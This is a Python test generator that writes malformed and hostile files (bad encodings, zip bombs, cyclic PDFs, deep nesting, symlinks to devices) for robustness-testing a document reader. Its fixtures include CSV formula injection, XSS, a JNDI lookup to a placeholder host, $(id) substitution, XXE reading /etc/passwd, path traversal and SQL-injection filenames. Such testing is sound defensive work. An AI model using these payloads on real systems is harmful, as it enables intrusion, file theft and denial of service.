"""Files and folders made to do harm, each under a name that says what it tries.

Run: python -m tests.trust.hostile_files FOLDER [NAME...] writes them, so that other programs can be tried with them.
`HOSTILE` are files that go into one folder, a few bytes each or quickly made; `LARGE` are those that are large or slow
to read and are checked one by one; `PLACES` are what a folder can hold that is no such file.
"""

import json
import os
import socket
import sys
import zipfile
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path

from tests.read import made

GOOD = "夸克的日活跃用户达到1.2亿。"
OTHER = "夸克的日活跃用户为5000万。"
FACT = GOOD.encode()
MB = 1024 * 1024
DEEP = 100_000
MANY = 20_000
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

Made = Callable[[], bytes]


def _text(*parts: str) -> Made:
    return lambda: "".join(parts).encode("utf-8", "surrogatepass")


def _bytes(data: bytes) -> Made:
    return lambda: data


def _times(text: str, count: int, end: str = "") -> Made:
    return lambda: (text * count + end).encode("utf-8", "surrogatepass")


def _in(encoding: str) -> Made:
    return lambda: (GOOD * 3).encode(encoding)


def _word(xml: str) -> Made:
    """A Word file with another main part."""

    def make() -> bytes:
        with zipfile.ZipFile(BytesIO(made.word(GOOD))) as found:
            files = {name: found.read(name) for name in found.namelist()}
        return made.archive({**files, "word/document.xml": xml})

    return make


def _body(inner: str, head: str = "") -> str:
    return f"{head}<w:document {W}><w:body>{inner}</w:body></w:document>"


def _page(inner: str) -> Made:
    return lambda: made.book({"a.xhtml": inner})


def _cut(make: Made, share: float) -> Made:
    return lambda: (data := make())[: int(len(data) * share)]


def _changed(make: Made, old: bytes, new: bytes) -> Made:
    return lambda: make().replace(old, new)


def _drawn(content: bytes, page: bytes = b"", *more: bytes) -> Made:
    """A PDF file of one page, with further objects from number 5 on."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R " + page + b" >>",
        made.stream(content),
        *more,
    ]
    return lambda: made.pdf(objects)


def _objects(*objects: bytes) -> Made:
    return lambda: made.pdf(objects)


def _packed(files: Mapping[str, str | bytes]) -> Made:
    return lambda: made.archive(files)


def _printed() -> bytes:
    return made.printed([GOOD])


def _lines(*rows: object) -> Made:
    return lambda: made.json_lines(*rows)


def _entities(levels: int) -> str:
    listed = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "夸克"}">' for n in range(levels))
    return f"<!DOCTYPE x [{listed}]>"


ENCODINGS: dict[str, Made] = {
    "utf-8 cut in a character.txt": _bytes(FACT[:-1]),
    "utf-8 cut at the start.txt": _bytes(FACT[1:]),
    "utf-8 with bytes that are none.txt": _bytes(FACT + b"\xff\xfe\x80\xc0\xaf" + FACT),
    "utf-8 of more bytes than need be.txt": _bytes(FACT + b"\xc0\x80\xe0\x80\xaf\xf0\x80\x80\xaf"),
    "utf-8 beyond the last character.txt": _bytes(FACT + b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80"),
    "utf-8 with halves of pairs.txt": _bytes(FACT + b"\xed\xa0\x80\xed\xb0\x80" + FACT),
    "utf-16 with a mark.txt": _in("utf-16"),
    "utf-16 without a mark.txt": _in("utf-16-le"),
    "utf-16 of an odd length.txt": _cut(_in("utf-16"), 0.99),
    "utf-16 with half a pair.txt": _bytes(b"\xff\xfe" + GOOD.encode("utf-16-le") + b"\x00\xd8A\x00"),
    "utf-32.txt": _in("utf-32"),
    "utf-32 cut.txt": _cut(_in("utf-32"), 0.98),
    "utf-32 beyond the last.txt": _bytes(b"\xff\xfe\0\0" + b"\xff\xff\xff\x7f" * 9),
    "utf-7.txt": _in("utf-7"),
    "gb18030.txt": _in("gb18030"),
    "gb18030 cut.txt": _cut(_in("gb18030"), 0.99),
    "big5.txt": lambda: "夸克的日活躍用戶達到一億".encode("big5"),
    "shift-jis.txt": lambda: ("日本の人口は1億2千万人です。" * 3).encode("shift-jis"),
    "euc-kr.txt": lambda: ("한국의 인구는 5천만 명입니다. " * 3).encode("euc-kr"),
    "windows-1251.txt": lambda: ("Население России составляет 146 миллионов человек. " * 3).encode("cp1251"),
    "ebcdic.txt": lambda: b"MAERSK HAS 100,000 EMPLOYEES".decode().encode("cp500"),
    "two encodings.txt": lambda: (GOOD * 9).encode() + (GOOD * 9).encode("gb18030"),
    "two encodings by lines.txt": lambda: b"\n".join((FACT, GOOD.encode("gb18030"), GOOD.encode("utf-16-le"))),
    "a mark and another encoding.txt": lambda: b"\xef\xbb\xbf" + GOOD.encode("gb18030"),
    "marks only.txt": _bytes(b"\xef\xbb\xbf" * 50),
    "a mark in the middle.txt": _bytes(FACT + b"\xef\xbb\xbf" + FACT),
    "the wrong mark.txt": _bytes(b"\xfe\xff" + GOOD.encode("utf-16-le")),
    "every byte.txt": _bytes(bytes(range(256)) * 40),
    "noise.txt": lambda: bytes((n * n * 31 + n * 7) % 256 for n in range(5000)),
    "one byte.txt": _bytes(b"\x80"),
    "nothing.txt": _bytes(b""),
    "nulls.txt": _bytes(b"\0" * 5000),
    "nulls in text.txt": _bytes(FACT + b"\0" + FACT + b"\0\0\0"),
    "nulls after four thousand bytes.txt": _bytes(FACT * 300 + b"\0" * 300),
    "an end of file sign.txt": _bytes(FACT + b"\x1a" + FACT),
    "no encoding but html says so.html": _bytes(b"<meta charset=utf-99><p>" + FACT),
    "html in another encoding than it says.html": lambda: f"<meta charset=utf-8><p>{GOOD}".encode("gb18030"),
}
CHARACTERS: dict[str, Made] = {
    "escape codes.txt": _text(f"\x1b[2J\x1b]0;title\x07\x1b[31m{OTHER}\x1bP$q\x1b\\"),
    "escape codes of one byte.txt": _text(f"\x9b2J{OTHER}\x9d0;title\x9c"),
    "all control characters.txt": _text(*map(chr, range(32)), OTHER, *map(chr, range(127, 160))),
    "bells.txt": _times("\x07", MANY, OTHER),
    "backspaces.txt": _text("夸克的日活跃用户为5000\b\b\b\b9999万。"),
    "bidi overrides.txt": _text("夸克的日活跃用户为\u202e5000\u202c万。\u2066\u2067\u2068"),
    "bidi never closed.txt": _times("\u202e\u2066", MANY, OTHER),
    "invisible characters.txt": _text("\u200b".join(OTHER), "\u2060\ufeff\u00ad"),
    "only invisible characters.txt": _times("\u200b\u2060", 5000),
    "only blanks.txt": _times("\u3000\u00a0\u2003", 5000),
    "line ends of all kinds.txt": _text(f"{OTHER}\r\n\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029{OTHER}\r"),
    "combining marks.txt": _times("\u0301", MANY, OTHER),
    "a letter with many marks.txt": _text("夸克5", "\u0334\u0335\u0489" * 3000, "0万"),
    "emoji.txt": _times("👨\u200d👩\u200d👧\u200d👦", 3000, OTHER),
    "flags.txt": _times("🇨🇳", 5000, OTHER),
    "tag characters.txt": _text("".join(map(chr, range(0xE0020, 0xE0080))) * 50, OTHER),
    "variation selectors.txt": _times("夸\ufe0f\U000e0100", 3000),
    "private characters.txt": _times("\ue000\U000f0000\U0010fffd", 3000, OTHER),
    "no characters.txt": _times("\uffff\ufffe\ufdd0\U0001ffff", 3000, OTHER),
    "old characters beyond the first plane.txt": _times("𠮷𪚥𰻞", 3000, OTHER),
    "figures of other scripts.txt": _text("夸克的日活跃用户为٥٠٠٠万、५०००万、５０００万、𝟓𝟎𝟎𝟎万、⑤⓪万。"),
    "letters that grow when folded.txt": _times("İﬃßŉǰΐ", 2000, OTHER),
    "greek final letters.txt": _times("ΣΣΣς ", 3000),
    "hangul letters.txt": _times("각", 3000),
    "replacement characters.txt": _times("\ufffd", MANY, OTHER),
    "formulas.txt": _text("=cmd|' /C calc'!A0的营收为5000万元。\n@SUM(A1)的营收为6000万元。"),
    "tags in text.txt": _text("<script>alert(1)</script><img src=x onerror=alert(1)>的日活跃用户为5000万。"),
    "printf.txt": _text("%s%n%x的日活跃用户为5000万。{0.__class__} ${jndi:ldap://a.example} {{7*7}} $(id) `id`"),
}
LONG: dict[str, Made] = {
    "brackets.txt": _times("（", MANY),
    "brackets around.txt": _text("(" * MANY, OTHER, ")" * MANY),
    "square brackets.md": _times("[", MANY),
    "links in links.md": _times("[a](", MANY // 2),
    "pictures.md": _times("![](", MANY // 2),
    "quotes.txt": _times("“", MANY),
    "quotes in quotes.txt": _text("“‘" * 9000, OTHER, "’”" * 9000),
    "straight quotes.txt": _times('"', MANY),
    "book titles.txt": _times("《", MANY),
    "stars.md": _times("a **b", MANY // 4),
    "single stars.md": _times("*a ", MANY // 3),
    "ticks.md": _times("`", MANY),
    "bars.md": _text("|a" * 2000, "\n", "|-" * 2000, "\n"),
    "a table of bars.md": _times("|-\n", MANY // 2),
    "a quote in quotes.md": _times("> ", MANY, OTHER),
    "heading signs.md": _times("#", MANY),
    "a heading on each line.md": _times("# 夸克\n", 5000),
    "list signs.md": _times("- ", MANY),
    "hyphens.md": _times("---\n", 5000),
    "front matter that never ends.md": _text("---\ntitle: x\n", "a: b\n" * 5000),
    "front matter of one key.md": _text("---\n", "a" * 50_000, ": b\n---\n", OTHER),
    "front matter of brackets.md": _text("---\ntitle: ", "[" * 20_000, "\n---\n", OTHER),
    "one word.txt": _times("a", 100_000),
    "one character.txt": _times("一", 60_000),
    "one digit.txt": _times("9", 60_000),
    "full-width digits.txt": _times("９", 20_000),
    "groups of digits.txt": _times("1,", MANY),
    "points.txt": _times("1.", MANY),
    "hyphenated figures.txt": _times("1-", MANY),
    "percents.txt": _times("%", MANY),
    "magnitudes.txt": _times("百万", MANY // 2),
    "ranges.txt": _times("5万至", MANY // 4),
    "fractions.txt": _times("三分之", MANY // 4),
    "hedges.txt": _times("超过约", MANY // 4),
    "currencies.txt": _times("$¥人民币", MANY // 6),
    "dates.txt": _times("11月17日至", MANY // 8),
    "clocks.txt": _times("12:30", MANY // 5),
    "addresses.txt": _times("http://a@b", MANY // 10),
    "glosses.txt": _times("戰(zhàn)", MANY // 7),
    "torn characters.txt": _times("頂?shù)", MANY // 5),
    "question marks.txt": _times("??淇", MANY // 3),
    "references.txt": _times("&#x41;&nbsp;", MANY // 12),
    "references to nothing.html": _text("<p>", "&#x110000;&#xd800;&#0;&bogus;" * 1000, OTHER),
    "ampersands.html": _times("&", MANY),
    "figures on one line.txt": lambda: " ".join(map(str, range(5000))).encode(),
    "figures on lines.txt": lambda: "\n".join(map(str, range(8000))).encode(),
    "figures in a list.txt": lambda: ("夸克的营收为" + "、".join(f"{n}万" for n in range(2500))).encode(),
    "figures between commas.txt": lambda: "，".join(map(str, range(4000))).encode(),
    "figures of many signs.txt": lambda: f"夸克的营收为{'9' * 5000}.{'9' * 5000}亿元，占{'1' * 400}%。".encode(),
    "an exponent.txt": _text("夸克的营收为1e999999999亿元，1E-999999999元，9" * 200),
    "changes on one line.txt": lambda: "".join(f"由{n}万增至{n + 1}万，" for n in range(900)).encode(),
    "sums on one line.txt": lambda: ("合计100万，其中" + "、".join(f"夸克{n}万" for n in range(1500))).encode(),
    "claims on one line.txt": lambda: "".join(f"Maersk had {n} employees, " for n in range(600)).encode(),
    "claims in sentences.txt": lambda: "".join(f"夸克的日活跃用户为{n}万。" for n in range(700)).encode(),
    "owners on one line.txt": lambda: ("夸克和千问、" * 2000 + "营收分别为" + "5万元、" * 2000).encode(),
    "a chain of owners.txt": _times("夸克的", 6000, "营收为5万元。"),
    "speakers in speakers.txt": _times("张三表示，", 3000, "夸克营收为5万元。"),
    "kin of kin.txt": _times("的父亲", 4000, "出任首席执行官。"),
    "impossible days.txt": _text(
        "2025年2月30日、0000年0月0日、9999年99月99日、99999年前、100000000天后，夸克发布。" * 50
    ),
    "negative years.txt": _text("公元前99999年，-5年，−1月−1日，夸克的营收为−0元。" * 50),
    "a wide table.md": lambda: ("|" + "营收|" * 900 + "\n|" + "-|" * 900 + "\n|" + "5万元|" * 900 + "\n").encode(),
    "a long table.md": lambda: ("|公司|营收|\n|-|-|\n" + "".join(f"|公司{n}|{n}万元|\n" for n in range(1200))).encode(),
    "tabs.txt": lambda: "\n".join("\t".join(map(str, range(n, n + 20))) for n in range(300)).encode(),
    "the same sentence.txt": _times(OTHER + "\n", 3000),
    "copies with a change.txt": lambda: "".join(
        f"这是很长的一句话，用来测试重复的段落{n}。\n" for n in range(1500)
    ).encode(),
}
PAGES: dict[str, Made] = {
    "nested elements.html": _text("<div>" * DEEP, OTHER, "</div>" * DEEP),
    "nested inline elements.html": _text("<b>" * DEEP, OTHER),
    "nested tables.html": _text("<table><tr><td>" * 20_000, OTHER),
    "nested lists.html": _text("<ul><li>" * 50_000, OTHER),
    "elements that close nothing.html": _text("</div></p></table>" * 30_000, OTHER),
    "angles.html": _times("<", DEEP),
    "open tags.html": _times("<a ", DEEP // 3),
    "open quotes.html": _times('<a ="', DEEP // 5),
    "open comments.html": _times("<!-- -", DEEP // 6),
    "open scripts.html": _times("<script>", DEEP // 8),
    "open declarations.html": _times("<!D ", DEEP // 4),
    "a tag of many attributes.html": lambda: (
        "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + f">{OTHER}"
    ).encode(),
    "an attribute of many signs.html": _text('<p class="', "a " * 50_000, '">', OTHER),
    "cells that span everything.html": _text("<table>", "<tr><td rowspan=99 colspan=99>5万元" * 700),
    "cells that span more than there is.html": _text(f"<table><tr><td colspan=999999999 rowspan=-1>{OTHER}"),
    "an unclosed menu.html": _text(f"<nav>{OTHER}"),
    "entities declared.html": _text(_entities(10), f"<p>&e9;{OTHER}"),
    "a page of nothing.html": _times("<br>", 20_000),
    "meta tags.html": _times("<meta name=date content=2025-12-17>", 5000, OTHER),
    "linked data.html": _text('<script type="application/ld+json">', '{"headline": "' * 20_000, "</script>", OTHER),
    "titles.html": _times("<title>a", 20_000),
    "a base and a refresh.html": _text(f"<base href=//evil.example><meta http-equiv=refresh content=0><p>{OTHER}"),
}
TABLES: dict[str, Made] = {
    "half a pair.jsonl": _bytes(b'{"text": "\\ud800' + OTHER.encode() + b'\\udfff"}\n'),
    "half a pair in a key.jsonl": _bytes(b'{"\\udc80": 1, "text": "' + OTHER.encode() + b'", "title": "\\ud800"}\n'),
    "a null in a text.jsonl": _bytes(b'{"text": "\\u0000' + OTHER.encode() + b'"}\n'),
    "nested brackets.jsonl": _bytes(b"[" * DEEP + b"\n" + json.dumps({"text": OTHER}).encode()),
    "nested objects.jsonl": _bytes(b'{"a":' * DEEP + b"1" + b"}" * DEEP + b"\n"),
    "nested brackets in a row.jsonl": _bytes(b'{"text": "x", "a": ' + b"[" * 500 + b"]" * 500 + b"}\n"),
    "a figure of many digits.jsonl": _bytes(b'{"text": "x", "a": ' + b"9" * 10_000 + b"}\n"),
    "no numbers.jsonl": _bytes(b'{"text": "x", "a": NaN, "b": -Infinity, "c": 1e999}\n'),
    "keys twice.jsonl": _bytes(b'{"text": "a", "text": ' + b'["b"]}\n'),
    "texts of other kinds.jsonl": _lines({"text": 5}, {"text": None}, {"text": []}, {"text": {"a": 1}}, {"text": True}),
    "many keys.jsonl": _lines({f"k{n}": n for n in range(20_000)}),
    "empty rows.jsonl": _bytes(b"\n" * 20_000 + b"{}"),
    "no rows.jsonl": _bytes(b'null\ntrue\n1\n"a"\n[]\n'),
    "one array.jsonl": lambda: json.dumps([{"text": OTHER}] * 50, indent=1).encode(),
    "other line ends.jsonl": lambda: (
        json.dumps({"text": f"{OTHER}\u2028\u2029\x85"}, ensure_ascii=False) + "\r\n"
    ).encode(),
    "cut in a row.jsonl": _cut(_lines(*[{"text": OTHER}] * 5), 0.9),
    "addresses and days that are none.jsonl": _lines(
        {"text": OTHER, "url": "javascript:alert(1)", "date": "9999-99-99", "title": "=1+1", "publisher": "\x1b[31m"}
    ),
    "many bad rows.jsonl": _bytes(b"x\n" * 5000),
    "a quote never closed.csv": _text('text\n"', OTHER * 50),
    "quotes.csv": _text("text\n", '"' * 20_001),
    "quotes in quotes.csv": _text("text\n", '"""' * 9000),
    "many columns.csv": _text("text", ",a" * 20_000, "\n", OTHER),
    "more fields than columns.csv": _text("text\n", ("," * 500 + "\n") * 20),
    "no column.csv": _text("a,b\n1,2\n"),
    "columns twice.csv": _text(f"text,text,text\n{OTHER},a,b\n"),
    "nulls.csv": _bytes(b"text\n" + OTHER.encode() + b"\0" + b"x\n"),
    "only a head.csv": _text("text,title\n"),
    "blank rows.csv": _text("text\n", "\n" * 20_000),
    "formulas.csv": _text(f"text,title\n{OTHER},=cmd|' /C calc'!A0\n"),
    "an empty head.csv": _text(",,,\n1,2,3,4\n"),
}
ARCHIVES: dict[str, Made] = {
    "a bomb.docx": lambda: made.archive({"word/document.xml": bytes(300 * MB)}),
    "a bomb of small parts.epub": lambda: made.archive({f"{n}.xhtml": bytes(MB) for n in range(300)}),
    "a bomb that lies.docx": lambda: made.archive({"word/document.xml": bytes(50 * MB)}).replace(
        (50 * MB).to_bytes(4, "little"), b"\x10\0\0\0"
    ),
    "a bomb in a picture.docx": lambda: made.archive({"word/media/a.png": bytes(300 * MB)}),
    "an archive in itself.epub": lambda: made.archive({"a.epub": made.archive({"a.epub": bytes(5 * MB)})}),
    "parts of one place.epub": lambda: _overlapping(),
    "many parts.epub": lambda: made.archive(dict.fromkeys(map(str, range(11_000)), "")),
    "parts of one name.epub": lambda: _twice("META-INF/container.xml"),
    "paths that lead out.epub": lambda: made.book({"../../../../etc/passwd": GOOD, "/etc/passwd": GOOD}),
    "names of escapes.epub": lambda: made.book({"\x1b[31m\n\r.xhtml": GOOD}),
    "a chapter a thousand times.epub": lambda: _again(1000),
    "entities.epub": _page(_entities(10) + "<p>&e9;</p>"),
    "nested elements.epub": _page("<div>" * DEEP),
    "no chapters.epub": _packed({"META-INF/container.xml": made.CONTAINER}),
    "a container that points to itself.epub": _packed(
        {"META-INF/container.xml": made.CONTAINER.replace("OPS/book.opf", "META-INF/container.xml")}
    ),
    "a locked chapter.epub": lambda: made.book(
        {"a.xhtml": GOOD}, more={"META-INF/encryption.xml": '<x><enc:CipherReference URI="OPS/a.xhtml"/></x>'}
    ),
    "no archive.epub": _text(OTHER),
    "cut.epub": _cut(lambda: made.book({"a.xhtml": GOOD}), 0.7),
    "a bad sum.epub": _changed(_packed({"a.xhtml": b"a" * 40}), b"\x78", b"\x79"),
    "entities.docx": _word(_body("<w:p><w:r><w:t>&e9;</w:t></w:r></w:p>", _entities(10))),
    "an entity from a file.docx": _word(
        _body("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    ),
    "utf-16 with entities.docx": _word(_body("", _entities(3)).encode("utf-16").decode("latin-1")),
    "nested controls.docx": _word(_body("<w:sdt>" * 250 + "</w:sdt>" * 250)),
    "nested controls deep.docx": _word(_body("<w:sdt>" * DEEP + "</w:sdt>" * DEEP)),
    "nested tables.docx": _word(_body("<w:tbl><w:tr><w:tc>" * 300 + "</w:tc></w:tr></w:tbl>" * 300)),
    "nested runs.docx": _word(_body(f"<w:p>{'<w:r>' * 3000}{'</w:r>' * 3000}</w:p>")),
    "a cell that spans everything.docx": _word(
        _body(
            f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p><w:r><w:t>{OTHER}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>'
        )
    ),
    "no body.docx": _word(f"<w:document {W}/>"),
    "no xml.docx": _word("夸克"),
    "another root.docx": _word("<html><body>a</body></html>"),
    "unclosed.docx": _word(f"<w:document {W}><w:body><w:p>"),
    "no relationships.docx": _packed({"word/document.xml": _body("")}),
    "relationships in a ring.docx": lambda: _ring(),
    "a relationship outside.docx": lambda: _outside(),
    "no archive.docx": _text(OTHER),
    "cut.docx": _cut(lambda: made.word(GOOD), 0.5),
    "an older file.docx": _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9000)),
    "packed in another way.docx": lambda: _other_way(),
    "a paragraph of nothing many times.docx": _word(_body("<w:p/>" * 30_000)),
}
PDFS: dict[str, Made] = {
    "no pdf.pdf": _text(OTHER),
    "only a head.pdf": _bytes(b"%PDF-1.7\n"),
    "cut early.pdf": _cut(_printed, 0.2),
    "cut late.pdf": _cut(_printed, 0.9),
    "pages in a ring.pdf": _objects(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>"
    ),
    "a page above itself.pdf": _objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] /Parent 3 0 R >>",
        b"<< /Type /Page /Parent 3 0 R >>",
    ),
    "no pages.pdf": _objects(b"<< /Type /Catalog >>"),
    "pages that are none.pdf": _objects(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 99999999 /Kids [1 0 R 7 0 R 8 0 R null 5] >>"
    ),
    "an object of itself.pdf": _objects(b"1 0 R"),
    "objects in a ring.pdf": _objects(b"2 0 R", b"3 0 R", b"1 0 R"),
    "nested arrays.pdf": _objects(b"[" * 50_000),
    "nested dictionaries.pdf": _objects(b"<< /A " * 20_000),
    "nested strings.pdf": _objects(b"(" * 50_000),
    "a form in itself.pdf": _drawn(
        b"/X Do",
        b"/Resources << /XObject << /X 5 0 R >> >>",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 5 0 R >> >> /Length 5 >>\n"
        b"stream\n/X Do\nendstream",
    ),
    "a stream of itself.pdf": _objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /Contents [4 0 R 4 0 R 3 0 R] >>",
        b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream",
    ),
    "steps without end.pdf": _drawn(b" q Q" * 120_000),
    "open states.pdf": _drawn(b" q" * 120_000),
    "a stream that bursts.pdf": lambda: _burst(50 * MB),
    "a filter that there is not.pdf": _changed(_printed, b"7 0 obj\n<< /Length", b"7 0 obj\n<< /Filter /None /Length"),
    "filters on filters.pdf": _objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
        b"<< /Length 4 /Filter [" + b"/ASCIIHexDecode " * 2000 + b"] >>\nstream\n4142\nendstream",
    ),
    "figures that are none.pdf": _drawn(b"BT /F 1e999 Tf 9999999999999999999999 -- +.. Td (x) Tj ET"),
    "an encrypted one.pdf": _changed(
        _printed, b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 9 /R 9 >>"
    ),
    "a table that lies.pdf": lambda: _printed().replace(b"xref\n0 ", b"xref\n0 9"),
    "a start that lies.pdf": lambda: _printed().replace(b"startxref\n", b"startxref\n99999"),
    "a font of nothing.pdf": _changed(_printed, b"/ToUnicode 5 0 R", b"/ToUnicode 99 0 R"),
    "a font of itself.pdf": _changed(_printed, b"/DescendantFonts [4 0 R]", b"/DescendantFonts [3 0 R]"),
    "a map that is too large.pdf": _changed(
        _printed, b"1 begincodespacerange", b"1 beginbfrange <0000> <ffff> <0000> endbfrange 1 begincodespacerange"
    ),
    "bytes before the head.pdf": lambda: b"x" * 5000 + _printed(),
    "bytes behind the end.pdf": lambda: _printed() + b"\0" * 50_000,
}
HOSTILE: dict[str, Made] = {
    **{
        f"{group}/{name}": make
        for group, listed in {
            "encodings": ENCODINGS,
            "characters": CHARACTERS,
            "long": LONG,
            "pages": PAGES,
            "tables": TABLES,
            "archives": ARCHIVES,
            "pdfs": PDFS,
        }.items()
        for name, make in listed.items()
    },
}
# large or slow: one by one, and with the option --slow only
LARGE: dict[str, Made] = {
    "a line of 100 MB.txt": lambda: b"x" * (100 * MB),
    "a line of 60 MB.txt": lambda: "夸克".encode() * (10 * MB),
    "a million lines.txt": _times("千问\n", 1_000_000),
    "a million figures.txt": lambda: " ".join(map(str, range(1_000_000))).encode(),
    "as many figures as are read.txt": lambda: "\n".join(f"夸克的营收为{n}万元。" for n in range(19_000)).encode(),
    "as many characters as are read.txt": _times("这是一段没有任何数字的文字。\n", 130_000),
    "as many characters of one word.txt": _times("一", 1_990_000),
    "a line end for each character.txt": _times("一\n", 990_000),
    "as many tags as are read.html": _times("<p>", 660_000),
    "as many blocks as are read.html": _times("<p>一", 490_000),
    "as many signs as are read.html": _times("<", 1_990_000),
    "a million rows.jsonl": _times('{"text": ""}\n', 1_000_000),
    "a hundred thousand articles.csv": lambda: ("text\n" + "一\n" * 101_000).encode(),
    "as many pages as are read.pdf": lambda: made.printed(*([["一"]] * 2100)),
    "as large as an archive may be.epub": lambda: made.book({f"{n}.xhtml": "<p>" * MB for n in range(9)}),
}


def _overlapping() -> bytes:
    """An archive whose list names one part a thousand times."""
    data = made.archive({"a.xhtml": bytes(MB)})
    start = data.rindex(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    listed = data[start:end]
    tail = bytearray(data[end:])
    tail[8:12] = (1000).to_bytes(2, "little") * 2
    tail[12:16] = (1000 * len(listed)).to_bytes(4, "little")
    return data[:start] + listed * 1000 + bytes(tail)


def _twice(name: str) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        for content in (made.CONTAINER, "<container/>"):
            packed.writestr(zipfile.ZipInfo(name), content)
    return file.getvalue()


def _again(times: int) -> bytes:
    """A book whose order names one chapter again and again."""
    order = '<itemref idref="i0"/>' * times
    book = f'<package><manifest><item id="i0" href="a.xhtml"/></manifest><spine>{order}</spine></package>'
    return made.archive({"META-INF/container.xml": made.CONTAINER, "OPS/book.opf": book, "OPS/a.xhtml": GOOD})


def _ring() -> bytes:
    with zipfile.ZipFile(BytesIO(made.word(GOOD))) as found:
        files = {name: found.read(name) for name in found.namelist()}
    ring = files["_rels/.rels"].replace(b"docProps/core.xml", b"_rels/.rels")
    return made.archive({**files, "_rels/.rels": ring, "word/_rels/document.xml.rels": ring})


def _outside() -> bytes:
    with zipfile.ZipFile(BytesIO(made.word(GOOD))) as found:
        files = {name: found.read(name) for name in found.namelist()}
    outside = files["_rels/.rels"].replace(b"word/document.xml", b"../../../../etc/passwd")
    return made.archive({**files, "_rels/.rels": outside})


def _other_way() -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_LZMA) as packed:
        packed.writestr("word/document.xml", "a")
    return file.getvalue()


def _burst(size: int) -> bytes:
    import zlib  # noqa: PLC0415

    data = zlib.compress(b" " * size)
    return made.pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data),
        ]
    )


def _link(target: str) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


def _socket(path: Path) -> None:
    listening = socket.socket(socket.AF_UNIX)
    here = Path.cwd()
    os.chdir(path.parent)  # an address holds a hundred characters
    try:
        listening.bind(path.name)
    finally:
        os.chdir(here)
        listening.close()


def _locked(path: Path) -> None:
    path.write_bytes(FACT)
    path.chmod(0)


def _locked_folder(path: Path) -> None:
    path.mkdir()
    (path / "a.txt").write_bytes(FACT)
    path.chmod(0)


def _deep(path: Path) -> None:
    for _ in range(100):
        path.mkdir()
        path /= "d"
    path.with_suffix(".txt").write_text(OTHER, encoding="utf-8")


def _file(path: Path) -> None:
    path.write_text(OTHER, encoding="utf-8")


# what a folder may hold beside files: each makes what it is about at a path
PLACES: dict[str, Callable[[Path], None]] = {
    "pipe.txt": os.mkfifo,
    "pipe.pdf": os.mkfifo,
    "socket.txt": _socket,
    "to a device.txt": _link("/dev/zero"),
    "to another device.txt": _link("/dev/random"),
    "to a terminal.txt": _link("/dev/tty"),
    "to the process.txt": _link("/proc/self/mem"),
    "to what grows.txt": _link("/proc/kmsg"),
    "to nothing.txt": _link("nowhere"),
    "to itself.txt": _link("to itself.txt"),
    "to this folder": _link("."),
    "to the folder above": _link(".."),
    "to a file twice.txt": _link("../good.txt"),
    "ring a.txt": _link("ring b.txt"),
    "ring b.txt": _link("ring a.txt"),
    "locked.txt": _locked,
    "locked folder": _locked_folder,
    "folder.txt": Path.mkdir,
    "folders in folders": _deep,
    "line\nend.txt": _file,
    "escape\x1b[31m.txt": _file,
    "bidi\u202etxt.txt": _file,
    "no text\udcff\udc80.txt": _file,
    "-rf.txt": _file,
    "--help.txt": _file,
    "=cmd|' !A0.txt": _file,
    "<img src=x onerror=alert(1)>.txt": _file,
    " .txt": _file,
    "a:b:1:2.txt": _file,
    "a#1.txt": _file,
    "%00%2e%2e.txt": _file,
    "'; drop table articles; --.txt": _file,
    f"{'n' * 251}.txt": _file,
    "🙂.txt": _file,
    "con.txt": _file,
    "\u0301.txt": _file,
    "~": _file,
    "*.txt": _file,
    "a.TXT": _file,
    "a.txt.": _file,
}


def main(folder: Path, names: list[str]) -> None:
    """Write the files, or those that are named."""
    for name, make in {**HOSTILE, **{f"large/{name}": make for name, make in LARGE.items()}}.items():
        if not names or name in names:
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(make())
    places = folder / "places"
    places.mkdir(exist_ok=True)
    for name, put in PLACES.items():
        if not names or name in names:
            put(places / name)


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2:])
